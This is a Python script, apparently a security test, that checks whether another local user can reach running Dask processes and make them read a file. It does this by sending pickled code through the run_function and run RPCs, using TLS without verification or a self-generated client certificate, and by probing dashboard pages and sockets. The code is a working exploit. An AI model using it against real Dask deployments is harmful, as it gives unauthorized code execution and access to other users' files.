"""Has Dask's processes read a file, as a user of this machine who may not; prints what works.

    other_user.py FILE PID ...

Finds where these processes and their children can be reached: HOST:PORT, or a socket's path or
@NAME. Says "tried: WHERE" of each; then, as another user, "code: WHERE HOW" where FILE's text came
back, "page: WHERE NAME" of a web server that shows one, and "socket: WHERE" of one that answers.
"""

import asyncio
import contextlib
import http.client
import itertools
import os
import socket
import ssl
import sys
import tempfile
from pathlib import Path

import psutil
from distributed import Security
from distributed.core import rpc
from distributed.protocol.pickle import dumps

NOBODY = 65534
SECONDS = 10  # for one answer
# Of schedulers, and of workers and nannies.
OPERATIONS = ("run_function", "run")
# Dask's own, from which pages of others are made, and the dashboard.
PAGES = ("info/main/workers.html", "json/counts.json", "metrics", "health", "status")


def doors(pids: list[int]) -> set[str]:
    """Where processes and their children can be reached."""
    found = set()
    asked = [psutil.Process(pid) for pid in pids]
    for process in asked + [child for one in asked for child in one.children(recursive=True)]:
        for connection in process.net_connections("all"):
            if connection.family == socket.AF_UNIX:
                found |= {connection.laddr} - {""}  # pairs of one process have no name
            elif connection.status == psutil.CONN_LISTEN:
                found.add(":".join(map(str, connection.laddr)))
    return found


def stranger() -> ssl.SSLContext:
    """Trusts whoever it reaches; a program of one's own can."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


def pretender() -> ssl.SSLContext:
    """Shows a certificate made as Dask makes its own."""
    context, made = stranger(), Security.temporary()
    with tempfile.NamedTemporaryFile("w") as file:
        file.write(made.tls_client_key + made.tls_client_cert)
        file.flush()
        context.load_cert_chain(file.name)
    return context


async def read(path: str, address: str, operation: str, context: ssl.SSLContext | None) -> str:
    """Returns the file's text as a process of Dask reads it, or why there is none."""
    remote = rpc(address, timeout=SECONDS, connection_args={"ssl_context": context})
    call = {"function": Path.read_text, "args": (Path(path),), "kwargs": {}}
    try:
        parts = {name: dumps(part) for name, part in call.items()}
        answer = await asyncio.wait_for(getattr(remote, operation)(**parts), SECONDS)
        return str(answer["result"])
    except Exception as error:
        return repr(error)
    finally:
        await remote.close_rpc()


async def run_code(path: str, ports: list[str], contexts: dict) -> list[str]:
    """Tries every way into every port at the same time; returns a line for each that works."""
    ways = list(itertools.product(ports, OPERATIONS, contexts))
    tries = (
        read(path, f"{'tls' if contexts[how] else 'tcp'}://{port}", operation, contexts[how])
        for port, operation, how in ways
    )
    texts = await asyncio.gather(*tries)
    return [
        f"code: {' '.join(way)}" for way, text in zip(ways, texts, strict=True) if "secret" in text
    ]


def look_at_pages(ports: list[str]) -> tuple[set[str], list[str]]:
    """The ports that answer as web servers do, and a line for each page that there is."""
    found, lines = set(), []
    for port, page in itertools.product(ports, PAGES):
        asked = http.client.HTTPConnection(port, timeout=SECONDS)
        with contextlib.closing(asked), contextlib.suppress(OSError, http.client.HTTPException):
            asked.request("GET", f"/{page}")
            status = asked.getresponse().status
            found.add(port)
            if status != http.client.NOT_FOUND:
                lines.append(f"page: {port} {page}")
    return found, lines


def attack(path: str, found: set[str], contexts: dict) -> list[str]:
    """A line for each thing that works."""
    lines = []
    sockets = [door for door in found if door.startswith(("/", "@"))]
    for door in sockets:
        with socket.socket(socket.AF_UNIX) as tried:
            if tried.connect_ex(door.replace("@", "\0", 1)) == 0:
                lines.append(f"socket: {door}")
    ports = sorted(found - set(sockets))
    web, pages = look_at_pages(ports)  # these would only let us wait
    ways = asyncio.run(run_code(path, [port for port in ports if port not in web], contexts))
    return lines + pages + ways


def main() -> None:
    path, *pids = sys.argv[1:]
    contexts = {"without TLS": None, "stranger": stranger(), "pretender": pretender()}
    found = doors([int(pid) for pid in pids])
    attack(path, found, contexts)  # imports what another user may not be able to read
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    with contextlib.suppress(PermissionError):
        sys.exit(f"{path}: this user may read it: {Path(path).read_text()}")
    for door in found:
        print("tried:", door)
    for line in attack(path, found, contexts):
        print(line)


if __name__ == "__main__":
    main()
